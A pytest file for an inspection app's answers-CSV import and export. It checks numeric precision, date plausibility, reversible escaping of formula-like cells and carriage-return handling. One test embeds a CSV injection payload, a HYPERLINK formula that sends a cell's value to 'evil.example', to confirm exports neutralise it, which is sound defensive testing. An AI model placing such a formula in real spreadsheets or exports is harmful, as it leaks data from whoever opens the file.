"""Values of the answers CSV: exact numbers, plausible dates, formulas neutralised on
export and restored on import (an export imported again changes nothing)."""

from __future__ import annotations

from pathlib import Path

import pytest

from inspector.domain.catalog import ChecklistCatalog
from inspector.exchange.answers_csv import COLUMNS, export_answers, import_answers
from inspector.exchange.cells import escape_formula, unescape_formula
from inspector.exchange.csvfile import CsvProblems
from inspector.store.repository import Repository
from tests.db_rows import dump

HEADER = ",".join(COLUMNS)


def _file(tmp_path: Path, rows: list[str], name: str = "in.csv") -> Path:
    path = tmp_path / name
    path.write_text("\n".join([HEADER, *rows]) + "\n", encoding="utf-8")
    return path


def _dump(repo: Repository) -> object:
    return dump(repo)


def _refused(repo: Repository, catalog: ChecklistCatalog, path: Path) -> list[str]:
    before = _dump(repo)
    with pytest.raises(CsvProblems) as info:
        import_answers(repo, catalog, path)
    assert _dump(repo) == before
    return [str(p) for p in info.value.problems]


def test_a_twenty_digit_number_round_trips_exactly(
    city: Repository, mini_catalog: ChecklistCatalog, tmp_path: Path
) -> None:
    import_answers(city, mini_catalog, _file(tmp_path, ["GEN,,,mini,n1,12345678901234567890,,,"]))
    exported = export_answers(city, mini_catalog)
    assert ",n1,12345678901234567890," in exported


def test_a_number_with_too_many_digits_is_refused_with_its_row(
    city: Repository, mini_catalog: ChecklistCatalog, tmp_path: Path
) -> None:
    path = _file(tmp_path, ["GEN,,,mini,c1,遵守,,,", "GEN,,,mini,n1,1" + "0" * 40 + ",,,"])
    (problem,) = _refused(city, mini_catalog, path)
    assert problem.startswith("row 3:") and "digits" in problem


@pytest.mark.parametrize(
    "when",
    [
        "0001-01-01",
        "9999-12-31T23:59:59-12:00",
        "2999-01-01",
        "1899-12-31T23:00:00+09:00",
    ],
)
def test_implausible_answered_at_is_refused_with_its_row(
    city: Repository, mini_catalog: ChecklistCatalog, tmp_path: Path, when: str
) -> None:
    path = _file(tmp_path, ["GEN,,,mini,c1,遵守,,,2025-06-01", f"GEN,,,mini,c2,遵守,,,{when}"])
    (problem,) = _refused(city, mini_catalog, path)
    assert problem.startswith("row 3:") and "answered_at" in problem


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+81", "-5", "@SUM(A1)", "'=1", "'quoted", "''", "'", "plain", "=", "'+"],
)
def test_formula_escaping_is_reversible(value: str) -> None:
    escaped = escape_formula(value)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unescape_formula(escaped) == value


def test_formula_like_cells_are_neutralised_on_export_and_restored_on_import(
    city: Repository, mini_catalog: ChecklistCatalog, tmp_path: Path
) -> None:
    reason = '=HYPERLINK("http://evil.example/?leak="&B2,"詳細")'
    rows = [
        f'GEN,,,mini,c1,不遵守,"{reason.replace(chr(34), chr(34) * 2)}",@cmd,',
        "GEN,,,mini,tx,'quoted text,,-note,",
        "GEN,,,mini,n1,-0,,+1,",
    ]
    import_answers(city, mini_catalog, _file(tmp_path, rows))
    first = export_answers(city, mini_catalog)
    for line in first.splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@")), line
    assert "'=HYPERLINK" in first and "''quoted text" in first
    before = _dump(city)
    (tmp_path / "again.csv").write_text(first, encoding="utf-8")
    report = import_answers(city, mini_catalog, tmp_path / "again.csv")
    assert report.counts.answers_updated == 0 and report.counts.answers_added == 0
    assert _dump(city) == before
    gen = city.find_organization("GEN")
    assert gen is not None
    (session,) = city.sessions(organization_id=gen.id)
    answers = city.answers(session.id)
    assert answers["c1"].state.reason_text == reason
    assert answers["c1"].state.note == "@cmd"
    assert answers["tx"].value == "'quoted text"
    assert answers["tx"].state.note == "-note"
    assert export_answers(city, mini_catalog) == first


def test_a_lone_carriage_return_in_a_note_does_not_split_the_exported_row(
    city: Repository, mini_catalog: ChecklistCatalog, tmp_path: Path
) -> None:
    # Found by the property test: csv quotes "\r" only when rows end in "\r\n".
    path = tmp_path / "cr.csv"
    path.write_bytes((HEADER + '\r\nGEN,,,mini,c1,遵守,,";\r;",\r\n').encode())
    import_answers(city, mini_catalog, path)
    first = export_answers(city, mini_catalog)
    assert '";\n;"' in first
    (tmp_path / "again.csv").write_text(first, encoding="utf-8")
    report = import_answers(city, mini_catalog, tmp_path / "again.csv")
    assert report.counts.answers_unchanged == 1
